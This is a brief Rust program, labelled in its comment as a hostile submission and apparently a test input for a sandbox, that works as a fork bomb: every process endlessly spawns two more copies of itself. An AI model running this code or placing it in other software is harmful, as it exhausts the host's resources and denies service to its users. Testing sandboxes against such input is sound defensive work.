// Hostile submission: every process starts two more copies of itself, forever.
fn main() {
    let me = std::env::current_exe().expect("current exe");
    loop {
        let _ = std::process::Command::new(&me).spawn();
        let _ = std::process::Command::new(&me).spawn();
        std::thread::sleep(std::time::Duration::from_millis(10));
    }
}
